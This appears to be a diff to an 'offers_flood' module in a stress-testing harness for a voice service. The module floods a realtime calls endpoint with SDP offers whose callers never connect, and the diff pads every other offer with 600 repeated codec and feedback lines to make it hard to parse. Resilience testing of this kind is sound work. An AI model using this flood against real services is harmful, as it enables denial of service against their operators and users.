@@ -13,6 +13,8 @@ from voicepipe.rtp.transport import Network, Transport
 CALLS = "/v1/realtime/calls"
 EVERY = 5
 """20 a second."""
+WEARY = ("a=rtpmap:1 a/1\r\n" + "a=rtcp-fb:* a\r\n") * 600
+"""In every other offer: what names each codec with each feedback."""
 
 
 async def run(target: Target, seconds: float) -> None:
@@ -27,7 +29,7 @@ async def run(target: Target, seconds: float) -> None:
             if tick % EVERY:
                 continue
             try:
-                answer = await client.post(CALLS, content=offer)
+                answer = await client.post(CALLS, content=offer if tick % (2 * EVERY) else offer + WEARY)
             except httpx.HTTPError:
                 continue
             target.told[f"HTTP {answer.status_code}"] += 1
@@ -39,4 +41,4 @@ async def run(target: Target, seconds: float) -> None:
                 await asyncio.sleep(0.1)
 
 
-ATTACK = Attack("offers_flood", "20 offers a second whose callers never connect", run)
+ATTACK = Attack("offers_flood", "20 offers a second whose callers never connect, half of them hard to read", run)
